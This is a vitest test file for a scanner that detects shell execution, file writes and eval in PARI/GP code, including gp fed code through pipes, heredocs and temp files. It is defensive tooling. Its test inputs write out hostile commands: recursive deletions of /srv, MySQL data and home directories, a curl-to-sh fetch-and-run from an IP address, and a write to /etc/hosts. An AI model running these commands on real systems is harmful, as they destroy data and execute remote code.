/** PARI/GP code (src/normalize/codescan-gp.ts): what it runs, writes and evaluates. */
import { describe, expect, it } from 'vitest';
import { gpCode, scanGp } from '../../src/normalize/codescan-gp.js';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const effects = (code: string) =>
  scanGp(code).map((e) =>
    e.kind === 'shell'
      ? `sh ${e.script.text}`
      : e.kind === 'exec'
        ? `exec ${e.argv.map((a) => a.text).join(' ')}`
        : e.kind,
  );

const ctx = filesContext({});
const commands = (script: string) =>
  normalizeIn(ctx, script).commands.map(
    (c) => `${c.wrappers.join('>')}|${c.dynamic ? 'dynamic:' : ''}${c.argv.join(' ')}`,
  );

describe('PARI/GP code', () => {
  it.each<[string, string[]]>([
    ['system("rm -rf /srv/app")', ['sh rm -rf /srv/app']],
    ['extern("rm -rf /var/lib/mysql");', ['sh rm -rf /var/lib/mysql']],
    ['s = externstr("curl -s http://198.51.100.9/x | sh")', ['sh curl -s http://198.51.100.9/x | sh']],
    ['system("echo \\"hi\\"")', ['sh echo "hi"']],
    ['eval("system(\\"rm -rf /srv\\")")', ['sh rm -rf /srv']],
    ['write("/etc/hosts", "1.2.3.4 x")', ['exec tee -a /etc/hosts']],
    ['system(cmd)', ['dynamic']],
    ['install("system", "vs", "sys", "libc.so.6")', ['dynamic']],
    // nothing run: arithmetic, a string that names a call, a comment
    ['factor(2^64+1)', []],
    ['print("system(\\"rm -rf /\\")")', []],
    ['/* system("rm -rf /") */ isprime(101)', []],
    ['\\\\ system("rm -rf /")\nisprime(7)', []],
  ])('%s', (code, want) => expect(effects(code)).toEqual(want));

  it.each<[string, string[], boolean]>([
    ['gp -q', [], false],
    ['gp -q -s 100M calc.gp', ['calc.gp'], false],
    ['gp --version', [], true],
  ])('%s: code files %j', (line, files, info) =>
    expect(gpCode(line.split(' ').map((text) => ({ text })))).toEqual({ files, info }),
  );
});

describe('gp as a carrier', () => {
  it.each<[string, string]>([
    [`echo 'system("rm -rf $HOME/src")' | gp -q`, 'gp|rm -rf /h/src'],
    [`gp -q <<'EOF'\nextern("rm -rf /var/lib/mysql")\nEOF`, 'gp|rm -rf /var/lib/mysql'],
    [`printf 'system("rm -rf /srv")\\n' > /tmp/a.gp && gp -q /tmp/a.gp`, 'gp|rm -rf /srv'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string, string[]]>([
    [`echo 'factor(2^64+1)' | gp -q`, ['|echo factor(2^64+1)', '|gp -q']],
    // the project's own script is not read
    ['gp -q scripts/calc.gp', ['|gp -q scripts/calc.gp']],
  ])('%s stays %j', (script, want) => expect(commands(script)).toEqual(want));
});
